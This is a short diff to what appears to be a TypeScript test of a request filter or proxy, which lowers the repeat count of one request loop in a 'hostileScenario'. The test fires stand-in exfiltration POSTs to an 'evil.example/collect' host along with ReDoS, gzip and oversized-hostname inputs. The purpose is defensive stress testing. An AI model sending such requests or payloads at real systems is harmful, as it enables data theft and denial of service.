@@ -210,7 +210,7 @@ async function hostileScenario(t: Test, origin: Upstream): Promise<void> {
     for (let i = 0; i < 3; i++) fire('https://api.github.com/graphql', { method: 'POST', body: redos });
     fire(`https://a${'.'.repeat(3000)}b.example/`);
     for (let i = 0; i < 2; i++) fire('https://evil.example/collect', { method: 'POST', body: deepDuplicates });
-    for (let i = 0; i < 40; i++) fire('https://evil.example/collect', { method: 'POST', body: gzipBody, headers: { 'content-encoding': 'gzip' } });
+    for (let i = 0; i < 16; i++) fire('https://evil.example/collect', { method: 'POST', body: gzipBody, headers: { 'content-encoding': 'gzip' } });
     for (let i = 0; i < 48; i++) fire('https://api.github.com/repos/acme/app/issues', { method: 'POST', body: upload });
     // Denied requests with large bodies, two at a time.
     const denied = async (): Promise<void> => {
